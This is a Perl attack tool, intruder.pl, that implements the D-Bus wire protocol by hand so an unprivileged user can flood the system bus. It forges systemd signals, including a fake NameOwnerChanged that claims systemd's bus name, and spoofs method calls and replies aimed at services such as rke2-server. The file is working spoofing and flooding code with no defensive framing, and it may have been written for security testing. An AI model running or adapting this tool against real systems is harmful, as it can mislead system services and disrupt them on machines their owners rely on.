#!/usr/bin/perl
# Sends messages on the system bus as a user without privileges. Implements the D-Bus protocol itself: the
# usual tools refuse to send forged messages, and are too slow for a flood.
#   intruder.pl own NAME                       requests a name, and prints the answer of the bus
#   intruder.pl signals DESTINATION COUNT SECONDS
#       signals with the interfaces of systemd and of the bus, evenly over so many seconds
#   intruder.pl calls DESTINATION COUNT SECONDS PATH INTERFACE MEMBER [STRING]
#       method calls without reply
#   intruder.pl reply DESTINATION COUNT         replies to calls that this program did not receive
use strict;
use warnings;
use IO::Socket::UNIX;

# perl-base has no Time::HiRes.
sub now { open my $uptime, '<', '/proc/uptime' or die $!; return (split ' ', <$uptime>)[0]; }
sub pause { select undef, undef, undef, $_[0]; }

sub aligned { my ($text, $to) = @_; $text .= "\0" while length($text) % $to; return $text; }
sub text { return pack('V', length $_[0]) . $_[0] . "\0"; }

my $serial = 0;
sub message {
    my ($type, $flags, $signature, $body, %fields) = @_;
    my %kinds = (1 => 'o', 2 => 's', 3 => 's', 5 => 'u', 6 => 's', 8 => 'g');
    $fields{8} = $signature if length $signature;
    my $header = '';
    for my $code (sort keys %fields) {
        my $kind = $kinds{$code};
        my $value = $fields{$code};
        my $encoded = $kind eq 'g' ? chr(length $value) . "$value\0"
            : $kind eq 'u' ? pack('V', $value) : text($value);
        $header = aligned($header, 8) . chr($code) . chr(1) . "$kind\0" . $encoded;
    }
    my $start = 'l' . pack('CCCVVV', $type, $flags, 1, length $body, ++$serial, length $header);
    return aligned("$start$header", 8) . $body;
}

my $bus = IO::Socket::UNIX->new(Peer => '/run/dbus/system_bus_socket') or die "no bus: $!";
$bus->autoflush(1);
syswrite $bus, "\0AUTH EXTERNAL " . unpack('H*', $>) . "\r\n";
sysread $bus, my $answer, 512;
die "not let in: $answer" unless $answer =~ /^OK/;
syswrite $bus, "BEGIN\r\n";
sub driver {
    my ($member, $signature, $body) = @_;
    return message(1, 0, $signature, $body, 1 => '/org/freedesktop/DBus', 2 => 'org.freedesktop.DBus',
        3 => $member, 6 => 'org.freedesktop.DBus');
}
syswrite $bus, driver('Hello', '', '');
my $hello = '';
until ($hello =~ /(:\d+\.\d+)/) { sysread $bus, $hello, 4096, length $hello or die 'the bus hung up'; }
my ($me) = $hello =~ /(:\d+\.\d+)/;

sub signal {
    my ($destination, $interface, $member, $signature, $body) = @_;
    return message(4, 1, $signature, $body, 1 => '/org/freedesktop/systemd1', 2 => $interface,
        3 => $member, 6 => $destination);
}
sub forged {
    my ($destination, $number) = @_;
    my $manager = 'org.freedesktop.systemd1.Manager';
    my $job = text("/org/freedesktop/systemd1/job/$number");
    my $unit = text('rke2-server.service');
    my $id = pack('V', $number);
    my @all = (
        # A start is requested, then the administrator stops the unit.
        signal($destination, $manager, 'JobNew', 'uos', aligned($id . $job, 4) . $unit),
        signal($destination, $manager, 'JobRemoved', 'uoss',
            aligned(aligned($id . $job, 4) . $unit, 4) . text('done')),
        # systemd's name has a new owner: this connection.
        signal($destination, 'org.freedesktop.DBus', 'NameOwnerChanged', 'sss',
            aligned(aligned(text('org.freedesktop.systemd1'), 4) . text(''), 4) . text($me)),
        signal($destination, $manager, 'UnitFilesChanged', '', ''),
        signal($destination, $manager, 'Reloading', 'b', pack('V', 0)),
        signal($destination, 'org.freedesktop.DBus.Properties', 'PropertiesChanged', 'sa{sv}as',
            aligned(aligned(text('org.freedesktop.systemd1.Unit'), 4) . pack('V', 0), 8) . pack('V', 0)),
    );
    return $all[$number % @all];
}

my ($what, $destination, $count, $seconds, @call) = @ARGV;
if ($what eq 'own') {
    syswrite $bus, driver('RequestName', 'su', aligned(text($destination), 4) . pack('V', 0));
    my $said = '';
    until ($said =~ /AccessDenied/ || $said =~ /NameAcquired.*\Q$destination\E/s) {
        sysread $bus, $said, 4096, length $said or last;
    }
    print $said =~ /AccessDenied/ ? "denied\n" : "owned\n";
    exit;
}
my $reader = fork;
unless ($reader) {
    # Read the answers of the bus, or it would stop reading ours.
    1 while sysread $bus, my $read, 65536;
    exit;
}
my $begun = now();
my $batch = 70;
for (my $number = 0; $number < $count; $number += $batch) {
    my $out = '';
    for my $at ($number .. $number + $batch - 1) {
        if ($what eq 'signals') { $out .= forged($destination, $at); }
        elsif ($what eq 'reply') { $out .= message(2, 1, 's', text('done'), 5 => $at % 512 + 1, 6 => $destination); }
        else {
            my ($path, $interface, $member, $string) = @call;
            my ($signature, $body) = defined $string ? ('s', text($string)) : ('', '');
            $out .= message(1, 1, $signature, $body, 1 => $path, 2 => $interface, 3 => $member, 6 => $destination);
        }
    }
    while (length $out) {
        my $sent = syswrite $bus, $out;
        die "the bus hung up: $!" unless $sent;
        substr($out, 0, $sent) = '';
    }
    my $early = $begun + ($seconds || 0) * ($number + $batch) / $count - now();
    pause($early) if $early > 0;
}
# The bus has taken all messages once it answers this one.
syswrite $bus, driver('GetId', '', '');
pause(0.2);
kill 'TERM', $reader;
printf "%d in %.1f s\n", $count, now() - $begun;
